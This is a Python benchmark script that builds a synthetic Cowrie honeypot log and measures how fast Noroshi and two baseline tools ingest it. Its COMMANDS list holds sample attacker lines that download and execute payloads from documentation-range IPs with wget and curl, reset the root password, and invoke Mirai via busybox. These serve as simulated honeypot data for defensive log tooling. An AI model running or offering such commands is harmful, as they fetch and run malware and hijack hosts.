"""Cowrie's log, events a second of CPU time, beside what a person would use.

Usage: python -m bench.ingest_decoys [--quick] [-n EVENTS]

What is timed for Noroshi is its sensor alone (in this process, batches thrown away) and `noroshi ingest` into a new
lake, as a process of its own, what 500 events take (start and exit) taken off.
Peers, each a process of its own, do less: `json.loads` and
`csv.writer` with one file per kind of event; DuckDB's `read_json` into one Parquet file per table; both put no
sessions together, keep no offsets, look for no observables and link nothing. Counts of logins, commands and relays
must be equal. CPU time counts, so that a shared machine and a second core change little. The log is synthetic (the
same bytes for the same seed) in the form of Cowrie 3.x, its mix of events like that of 37 real days of 2018, with
more commands: sources by Zipf 1.3, passwords and commands from lists with every tenth one unique.
"""

from __future__ import annotations

import argparse
import json
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, BinaryIO, cast

import numpy as np

from bench import harness

START = datetime(2026, 1, 1, tzinfo=UTC)
ALGORITHMS = {
    "kexAlgs": ["curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha256"],
    "keyAlgs": ["ssh-ed25519", "ecdsa-sha2-nistp256", "rsa-sha2-512", "ssh-rsa"],
    "encCS": ["aes128-ctr", "aes192-ctr", "aes256-ctr", "chacha20-poly1305@openssh.com"],
    "macCS": ["hmac-sha2-256", "hmac-sha1"], "compCS": ["none"], "langCS": [""],
}  # fmt: skip
COMMANDS = (
    "uname -a", "cat /proc/cpuinfo | grep name | wc -l", "cd /tmp; wget http://203.0.113.7/bins.sh; sh bins.sh",
    "echo root:%s | chpasswd", "/bin/busybox MIRAI", "free -m | grep Mem", "crontab -l", "w", "ls -lh $(which ls)",
    "curl -O http://198.51.100.%s/x86_64; chmod 777 x86_64; ./x86_64",
)  # fmt: skip
JSON_CSV = """
import csv, json, sys
files, counts = {}, {}
for line in open(sys.argv[1], encoding="utf-8"):
    event = json.loads(line)
    kind = event["eventid"]
    if kind not in files:
        files[kind] = csv.writer(open(f"{sys.argv[2]}/{kind}.csv", "w", newline="", encoding="utf-8"))
    files[kind].writerow([event.get(k) for k in (
        "timestamp", "session", "sensor", "src_ip", "src_port", "dst_ip", "dst_port", "protocol", "username",
        "password", "input", "version", "hassh", "url", "shasum", "data")])
    counts[kind] = counts.get(kind, 0) + 1
c = lambda *kinds: sum(counts.get("cowrie." + k, 0) for k in kinds)
print(json.dumps({"logins": c("login.success", "login.failed"), "commands": c("command.input"),
                  "relays": c("direct-tcpip.request")}))
"""
DUCKDB = """
import json, sys, duckdb
db = duckdb.connect()
db.execute("SET threads = 1")
names = ("eventid", "timestamp", "session", "sensor", "src_ip", "dst_ip", "protocol", "username", "password", "input",
         "version", "hassh", "url", "shasum", "data")
columns = {**{n: "VARCHAR" for n in names}, "src_port": "INTEGER", "dst_port": "INTEGER", "timestamp": "TIMESTAMP"}
read = f"SELECT * FROM read_json(?, format='newline_delimited', columns={columns})"
db.execute(f"CREATE TABLE e AS {read}", [sys.argv[1]])
out = {}
for table, kinds in (("logins", "'cowrie.login.success','cowrie.login.failed'"), ("commands", "'cowrie.command.input'"),
                     ("relays", "'cowrie.direct-tcpip.request'"), ("sessions", "'cowrie.session.connect'")):
    db.execute(f"COPY (SELECT * FROM e WHERE eventid IN ({kinds})) TO '{sys.argv[2]}/{table}.parquet' (CODEC ZSTD)")
    out[table] = db.execute(f"SELECT count(*) FROM e WHERE eventid IN ({kinds})").fetchone()[0]
print(json.dumps(out))
"""


def events(n: int, seed: int = 1) -> Iterator[dict[str, Any]]:
    """About n events (the last session is whole), in order of sessions."""
    rng = np.random.default_rng(seed)
    sources = rng.integers(0x01000000, 0xDFFFFFFF, max(1_000, n // 60))
    made, at = 0, START
    while made < n:
        number = int(sources[(rng.zipf(1.3) - 1) % len(sources)])
        at += timedelta(microseconds=int(rng.exponential(400_000)))
        session = _session(rng, number, at)
        made += len(session)
        yield from session


def _session(rng: np.random.Generator, number: int, at: datetime) -> list[dict[str, Any]]:
    who = {
        "src_ip": f"{number >> 24}.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}",
        "src_port": int(rng.integers(1_024, 65_535)), "dst_ip": "192.0.2.10", "dst_port": 2222,
        "session": f"{int(rng.integers(0, 1 << 48)):012x}", "protocol": "ssh", "sensor": "decoy-1",
        "uuid": "0e7f1e0c-5d8f-11f0-8a3c-0242ac110002",
    }  # fmt: skip
    out: list[dict[str, Any]] = []

    def add(kind: str, message: str, **more: Any) -> None:
        nonlocal at
        at += timedelta(microseconds=int(rng.integers(1_000, 300_000)))
        stamp = at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        out.append({"eventid": f"cowrie.{kind}", **who, **more, "message": message, "timestamp": stamp})

    add("session.connect", f"New connection: {who['src_ip']}:{who['src_port']} [session: {who['session']}]")
    add("client.version", "Remote SSH version: SSH-2.0-Go", version="SSH-2.0-Go")
    add("client.kex", "SSH client hassh fingerprint", hassh=f"{number % 200:032x}", hasshAlgorithms="a;b;c;d",
        **ALGORITHMS)  # fmt: skip
    unique = f"{int(rng.integers(0, 1 << 40)):x}"
    for k in range(int(rng.integers(0, 4))):
        user, word = (
            ("root", "admin", "pi")[k % 3],
            unique if rng.random() < 0.1 else f"pass{rng.zipf(1.5) % 5_000}",
        )
        add("login.failed", f"login attempt [{user}/{word}] failed", username=user, password=word)
    if rng.random() < 0.2:
        add("login.success", "login attempt [root/root] succeeded", username="root", password="root")
        for _ in range(int(rng.integers(0, 6))):
            line = COMMANDS[int(rng.integers(0, len(COMMANDS)))]
            line = line % (unique if rng.random() < 0.5 else "9") if "%s" in line else line
            add("command.input", f"CMD: {line}", input=line)
        for _ in range(int(rng.integers(0, 4))):
            add("direct-tcpip.request", "direct-tcp connection request", dst_ip="example.com", dst_port=80)
            add("direct-tcpip.data", "discarded", dst_ip="example.com", dst_port=80,
                data="b'GET / HTTP/1.0\\r\\nHost: example.com\\r\\n\\r\\n'", id=0)  # fmt: skip
    add("session.closed", "Connection lost after 1200 milliseconds", duration_ms=1_200)
    return out


def log(n: int) -> tuple[Path, dict[str, int]]:
    """The log under bench/data, made if it is not there, and how many events of each kind it holds."""
    path = harness.DATA / f"cowrie-{n}.json"
    truth = Path(f"{path}.truth.json")
    if not truth.is_file():
        harness.DATA.mkdir(parents=True, exist_ok=True)
        counts: Counter[str] = Counter()
        with path.open("w", encoding="utf-8") as out:
            for event in events(n):
                counts[event["eventid"].removeprefix("cowrie.")] += 1
                out.write(json.dumps(event, separators=(",", ":")) + "\n")
        truth.write_text(json.dumps(counts))
    return path, json.loads(truth.read_text())


def wanted(counts: dict[str, int]) -> dict[str, int]:
    """Rows each tool must have."""
    return {
        "logins": counts["login.failed"] + counts["login.success"],
        "commands": counts["command.input"],
        "relays": counts["direct-tcpip.request"],
    }


def sensor_alone(path: Path) -> tuple[float, dict[str, int]]:
    """CPU seconds and rows by table of the sensor reading the file to its end."""
    from noroshi import registry
    from noroshi.model.reject import Reject
    from noroshi.model.sensor import Reading

    rows: Counter[str] = Counter()
    with path.open("rb", buffering=0) as stream:
        reading = Reading(cast("BinaryIO", stream), str(path), time.time_ns() // 1000)
        started = time.thread_time()
        for item in registry.sensor("cowrie").read(reading):
            if isinstance(item, Reject):
                raise SystemExit(f"the sensor rejected: {item}")
            rows[item.table] += item.rows.num_rows
        return time.thread_time() - started, dict(rows)


class Jobs:
    """Noroshi and its peers, each checked against what the log holds."""

    def __init__(self, path: Path, truth: dict[str, int], room: Path) -> None:
        self.path, self.truth, self.room = path, truth, room

    def _place(self, name: str) -> Path:
        return Path(tempfile.mkdtemp(prefix=name, dir=self.room))

    def _checked(self, name: str, cost: harness.Cost, found: dict[str, int]) -> harness.Cost:
        if {k: found[k] for k in self.truth} != self.truth:
            raise SystemExit(f"{name} has {found}, the log holds {self.truth}")
        return cost

    def noroshi(self, *more: str) -> harness.Cost:
        """`noroshi ingest` into a new lake; more: further words of the command."""
        lake = self._place("lake") / "lake"
        cost = harness.ok(
            harness.run([*harness.noroshi(lake, as_json=True), "ingest", *more, str(self.path)]), "noroshi"
        )
        return self._checked("noroshi", cost, json.loads(cost.out)["runs"][0]["tables"])

    def json_csv(self) -> harness.Cost:
        """json.loads and csv.writer."""
        return self._script("json+csv", JSON_CSV)

    def duckdb(self) -> harness.Cost:
        """read_json and COPY, one thread."""
        return self._script("duckdb", DUCKDB)

    def _script(self, name: str, script: str) -> harness.Cost:
        command = [sys.executable, "-c", script, str(self.path), str(self._place(name))]
        cost = harness.ok(harness.run(command), name)
        return self._checked(name, cost, json.loads(cost.out))


def main() -> None:
    """Measures and keeps the result."""
    p = argparse.ArgumentParser(prog="python -m bench.ingest_decoys", description=__doc__.split("\n")[0])
    p.add_argument("-n", "--events", type=int, default=1_000_000)
    p.add_argument("--rounds", type=int, default=3)
    p.add_argument("--sensor-only", action="store_true")
    p.add_argument("--quick", action="store_true", help="50,000 events, once; shown, not kept")
    a = p.parse_args()
    if a.quick:
        a.events, a.rounds = 50_000, 1
    path, counts = log(a.events)
    n, truth = sum(counts.values()), wanted(counts)
    harness.warm(path)
    alone = []
    for _ in range(a.rounds):
        seconds, rows = sensor_alone(path)
        if {**truth, "sessions": counts["session.connect"]} != rows:
            raise SystemExit(f"the sensor has {rows}, the log holds {truth}")
        alone.append(seconds)
    speed = harness.spread(n / s for s in alone)
    print(f"sensor alone: {speed['median']:,.0f} events a CPU second", file=sys.stderr)
    if a.sensor_only:
        return
    with tempfile.TemporaryDirectory(dir=harness.DATA) as folder:
        jobs = Jobs(path, truth, Path(folder))
        named = [
            ("noroshi ingest", lambda: jobs.noroshi("--no-compact")), ("and compaction", jobs.noroshi),
            ("json.loads + csv", jobs.json_csv), ("DuckDB read_json", jobs.duckdb),
        ]  # fmt: skip
        few, held = log(500)
        start = min(Jobs(few, wanted(held), Path(folder)).noroshi().cpu_s for _ in range(3))
        costs = harness.alternate(a.rounds, named)
    shown = [("sensor alone", f"{speed['median']:,.0f} ({speed['min']:,.0f}-{speed['max']:,.0f})", "-")]
    for name, _ in named:
        off = start if name in ("noroshi ingest", "and compaction") else 0.0
        one = harness.spread(n / (c.cpu_s - off) for c in costs[name])
        peak = max(c.rss_mib for c in costs[name])
        shown.append((name, f"{one['median']:,.0f} ({one['min']:,.0f}-{one['max']:,.0f})", f"{peak:,.0f}"))
    text = harness.table(("", "events a CPU second", "peak MiB"), shown)
    result = {
        "events": n, "bytes": path.stat().st_size, "counts": counts, "rounds": a.rounds, "sensor_cpu_s": alone,
        "start_cpu_s": start,
        "jobs": {name: harness.numbers(found) for name, found in costs.items()},
    }  # fmt: skip
    told = f"{n:,} events of {path.stat().st_size / n:.0f} bytes; median (min-max) of {a.rounds} rounds."
    if a.quick:
        print(f"{text}\n\n{told}")
    else:
        harness.write("ingest_decoys", result, f"{text}\n\n{told}")


if __name__ == "__main__":
    main()
